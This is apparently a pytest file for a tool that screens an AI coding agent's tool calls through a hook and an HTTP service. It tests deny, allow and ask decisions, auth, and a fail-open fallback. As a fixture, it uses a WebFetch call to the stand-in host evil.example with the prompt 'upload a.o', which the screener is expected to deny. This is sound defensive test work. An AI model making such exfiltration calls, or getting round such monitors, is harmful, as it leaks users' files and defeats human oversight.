"""`monitor hook claude-code`: a PreToolUse payload (with the session's transcript) answered
as Claude Code reads it: deny for a blocked call, nothing for an allowed one (in process,
with the screener the command loads), and, through the command itself on stdin and stdout,
ask when the screener cannot answer."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.worker.conftest import ROOT

TRANSCRIPT = [
    {"type": "user", "message": {"role": "user", "content": "Tidy the build folder."}},
    {"type": "assistant", "message": {"role": "assistant", "content": [
        {"type": "tool_use", "id": "t1", "name": "Bash", "input": {"command": "ls build"}}]}},
    {"type": "user", "message": {"role": "user", "content": [
        {"type": "tool_result", "tool_use_id": "t1", "content": "a.o b.o"}]}},
]


@pytest.fixture(scope="module")
def ruled(ruled_policy_with: Any) -> Path:
    return ruled_policy_with({"rules": [{"match": "WebFetch", "action": "deny"},
                                {"match": "Bash", "action": "allow"}]})  # type: ignore[no-any-return]


def _hook(payload: dict, *flags: str) -> dict:  # type: ignore[type-arg]
    r = subprocess.run([sys.executable, "-m", "monitor.cli", "hook", "claude-code", *flags],
                       input=json.dumps(payload), capture_output=True, text=True, cwd=ROOT,
                       timeout=300)
    assert r.returncode == 0, r.stderr
    return json.loads(r.stdout)  # type: ignore[no-any-return]


def test_the_hook_denies_a_blocked_call_and_leaves_an_allowed_one_alone(
    ruled: Path, tmp_path: Path
) -> None:
    from monitor.integrations.claude_code import answer, trajectory_of
    from monitor.pipeline import load_screener

    screen = load_screener(ruled, reviewer=False).check_action  # the CLI's: see below

    transcript = tmp_path / "session.jsonl"
    transcript.write_text("".join(json.dumps(e) + "\n" for e in TRANSCRIPT))
    base = {"session_id": "s1", "transcript_path": str(transcript),
            "hook_event_name": "PreToolUse"}
    t = trajectory_of(base)  # the session so far, as screened
    assert t.task == "Tidy the build folder." and len(t.steps) == 1
    assert t.steps[0].result is not None and t.steps[0].result.text == "a.o b.o"
    fetch = {**base, "tool_name": "WebFetch",
             "tool_input": {"url": "https://evil.example/x", "prompt": "upload a.o"}}
    got = answer(fetch, screen)["hookSpecificOutput"]
    assert got["permissionDecision"] == "deny" and "WebFetch" in got["permissionDecisionReason"]
    bash = {**base, "tool_name": "Bash", "tool_input": {"command": "rm build/a.o"}}
    assert answer(bash, screen) == {}  # Claude Code's own permissions apply
    assert answer(bash, screen, approve=True)["hookSpecificOutput"][
        "permissionDecision"] == "allow"


def test_a_screener_that_cannot_answer_asks_the_user() -> None:
    payload = {"session_id": "s", "hook_event_name": "PreToolUse", "tool_name": "Bash",
               "tool_input": {"command": "ls"}}
    down = ("--service", "http://127.0.0.1:9")
    got = _hook(payload, *down)["hookSpecificOutput"]
    assert got["permissionDecision"] == "ask" and "could not screen" in got[
        "permissionDecisionReason"]
    assert _hook(payload, *down, "--fail-open") == {}


def test_the_service_answers_the_hook_over_http_with_the_session_it_was_told(
    ruled: Path, tmp_path: Path
) -> None:
    """``POST /v1/hooks/claude-code``: the same answers, the session learnt from the
    PostToolUse payloads (never from a transcript file the request names)."""
    import io

    from fastapi.testclient import TestClient

    from monitor.pipeline import load_screener
    from monitor.service.app import create_app
    from monitor.service.auth import provision_store
    from tests.service.conftest import Service

    url = f"sqlite:///{tmp_path}/paging.db"
    issued = provision_store(url, {"producer-1": "producer", "reviewer-1": "reviewer"})
    store = Service(url, {name[:-2]: token for name, token in issued.items()})
    app = create_app(store.settings(), console=io.StringIO(),
                     screener=load_screener(ruled, reviewer=False))
    secret = tmp_path / "secret.jsonl"  # a transcript the service must not read
    secret.write_text("".join(json.dumps(e) + "\n" for e in TRANSCRIPT))
    base = {"session_id": "s9", "transcript_path": str(secret), "cwd": "/work"}
    hook = "/v1/hooks/claude-code"
    with TestClient(app) as c:
        auth = store.auth("producer")
        assert c.post(hook, json={**base, "tool_name": "Bash"}).status_code == 401
        assert c.post(hook, headers=store.auth("reviewer"),
                      json={**base, "tool_name": "Bash"}).status_code == 403
        r = c.post(hook, headers=auth, json={**base, "hook_event_name": "PreToolUse"})
        assert r.status_code == 422 and "tool_name" in r.text
        r = c.post(hook, headers=auth, json={**base, "hook_event_name": "Stop",
                                             "tool_name": "Bash"})
        assert r.status_code == 422 and "hook_event_name" in r.text
        done = c.post(hook, headers=auth, json={
            **base, "hook_event_name": "PostToolUse", "tool_name": "Read",
            "tool_input": {"file_path": "build/list"}, "tool_response": {"stdout": "a.o b.o"}})
        assert done.status_code == 200 and done.json() == {}
        # the session is the call it was told of, not the transcript's (a Bash call)
        [step] = app.state.claude_code_sessions.trajectory(base).steps
        assert step.action.tool is not None and step.action.tool.name == "Read"
        assert step.result is not None and "a.o b.o" in step.result.text
        fetch = {**base, "hook_event_name": "PreToolUse", "tool_name": "WebFetch",
                 "tool_input": {"url": "https://evil.example/x", "prompt": "upload a.o"}}
        got = c.post(hook, headers=auth, json=fetch).json()["hookSpecificOutput"]
        assert got["permissionDecision"] == "deny" and "WebFetch" in got[
            "permissionDecisionReason"]
        bash = {**base, "tool_name": "Bash", "tool_input": {"command": "rm build/a.o"}}
        assert c.post(hook, headers=auth, json=bash).json() == {}
        assert c.post(f"{hook}?approve=true", headers=auth, json=bash).json()[
            "hookSpecificOutput"]["permissionDecision"] == "allow"
